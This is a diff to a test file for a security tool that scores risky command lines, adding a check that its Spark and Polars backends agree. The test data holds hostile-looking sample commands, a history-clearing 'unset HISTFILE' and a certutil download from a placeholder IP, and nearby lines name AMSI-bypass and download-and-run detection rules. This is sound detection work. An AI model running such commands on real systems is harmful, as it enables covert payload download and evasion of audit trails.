@@ -250,3 +250,13 @@ def test_launchers_of_empire_are_found_in_what_they_hide(windows_events):
     lines = [text for text in windows_events.texts if " -enc " in text and len(text) < 20_000]
     found = command_risks(pl.DataFrame({"cmd": lines}), "cmd").filter(pl.col("Depth") > 0)
     assert {"amsi_bypass", "powershell_download_and_run"} <= set(found["Rule"])
+
+
+def test_spark_gives_the_same_rows(spark):
+    lines = ["unset HISTFILE", None, "ls", "certutil -urlcache -f http://203.0.113.9/a a"]
+    frame = pl.DataFrame({"n": [1, 2, 3, 4], "CommandLine": lines})
+    given = spark.createDataFrame(frame.to_arrow(compat_level=pl.CompatLevel.oldest()))
+    found = pl.from_arrow(command_risks(given, keep=["n"]).toArrow()).sort("n", "Rule")
+    wanted = command_risks(frame, keep=["n"]).sort("n", "Rule")
+    assert found["SourceIndex"].null_count() == found.height  # rows of Spark have no position
+    assert found.drop("SourceIndex").rows() == wanted.drop("SourceIndex").rows()
